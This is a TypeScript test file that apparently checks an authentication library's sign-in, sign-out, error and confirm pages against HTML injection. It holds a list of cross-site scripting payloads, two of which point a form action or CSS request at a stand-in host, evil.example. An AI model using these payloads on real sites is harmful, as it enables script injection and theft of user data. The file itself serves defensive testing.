import { describe, expect, test } from "vitest"
import { renderConfirmPage } from "../../src/pages/confirm-page.ts"
import type { Page } from "../../src/pages/document.ts"
import { renderErrorPage } from "../../src/pages/error-page.ts"
import { passkeyForm } from "../../src/pages/passkey-form.ts"
import { renderSignInPage } from "../../src/pages/sign-in-page.ts"
import { renderSignOutPage } from "../../src/pages/sign-out-page.ts"
import { renderVerifyRequestPage } from "../../src/pages/verify-request-page.ts"
import { byName, parsePage } from "./parsed-page.ts"

const payloads = [
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `" onfocus="alert(1)" autofocus x="`,
  `' onmouseover='alert(1)`,
  "` onload=alert(1) `",
  `</style><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `--><svg onload=alert(1)>`,
  `&quot;><script>alert(1)</script>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `\u0000"><script>alert(1)</script>`,
  `x" formaction="https://evil.example`,
  `;}*{background:url(https://evil.example)}`,
]

/** Every page, with the text in every place that a configuration or a request can fill. */
function pagesWith(text: string): Promise<readonly Page[]> {
  const theme = { name: text, logo: `/${text}`, brandColor: text, buttonText: text }
  const strings = { lang: text, "verifyRequest.heading": text, home: text }
  const input = { label: text, type: text, placeholder: text, value: text, autocomplete: text }
  const style = { logo: `/${text}`, brandColor: text }
  return Promise.all([
    renderSignInPage({
      theme,
      providers: [
        { kind: "button", id: text, name: text, action: text, style },
        ...([text, [[text, text]]] as const).map(
          (mark) =>
            ({ kind: "button", id: text, name: text, action: text, style: { mark } }) as const,
        ),
        {
          kind: "form",
          id: text,
          name: text,
          action: text,
          inputs: { [text]: input, other: input },
        },
        { kind: "form", id: text, name: text, action: text, inputs: { [text]: input } },
        // Only two of them show their names.
        { kind: "email", id: text, name: text, action: text },
        { kind: "email", id: text, name: text, action: text },
        {
          kind: "passkey",
          id: text,
          action: text,
          optionsUrl: text,
          conditionalUI: true,
          inputs: { [text]: input },
          script: { src: text },
          form: passkeyForm,
        },
      ],
      email: text,
      csrfToken: text,
      callbackUrl: text,
      error: text,
      code: text,
    }),
    renderSignOutPage({
      theme,
      csrfToken: text,
      action: text,
      callbackUrl: text,
      homeUrl: text,
      user: { email: text },
    }),
    renderErrorPage({ theme, error: text, homeUrl: text, signInUrl: text }),
    renderErrorPage({ theme, error: "AccessDenied", homeUrl: text, signInUrl: text }),
    renderVerifyRequestPage({ theme, strings, homeUrl: text }),
    renderConfirmPage({ theme, action: text, hidden: { [text]: text }, email: text }),
  ])
}

/** The provider's mark, which stands where the text makes no usable path of a logo. */
const mark = ["svg aria-hidden class viewBox", "text text-anchor x y"]

/** What a page is made of, without what the text may change: the values of its attributes. */
function shape(page: Page): readonly string[] {
  return parsePage(page.html)
    .filter(({ name }) => name !== "img")
    .map(({ name, attributes }) => `${name} ${Object.keys(attributes).sort().join(" ")}`)
    .filter((line) => !mark.includes(line))
}

const harmless = await pagesWith("harmless")

const attacked = await Promise.all(
  payloads.map(async (payload) => ({ payload, pages: await pagesWith(payload) })),
)

describe.each(attacked)("$payload", ({ payload, pages }) => {
  // asvs 1.1.2, 1.2.1, 1.3.7, 3.2.2
  test("adds no element and no attribute to any page (CVE-2021-32702)", () => {
    expect(pages.map(shape)).toEqual(harmless.map(shape))
  })

  test("does not reach the style sheet or the policy", () => {
    for (const [index, page] of pages.entries()) {
      const style = byName(page.html, "style").map(({ text }) => text)
      expect(style).toEqual(byName(harmless[index]?.html ?? "", "style").map(({ text }) => text))
      expect(page.csp).toBe(harmless[index]?.csp)
    }
  })

  test("arrives unchanged where it is a value", () => {
    const [signIn] = pages
    const value = byName(signIn?.html ?? "", "input")[0]?.attributes["value"]
    // The parser replaces the one character that HTML cannot hold.
    expect(value).toBe(payload.replace("\u0000", "\ufffd"))
  })
})
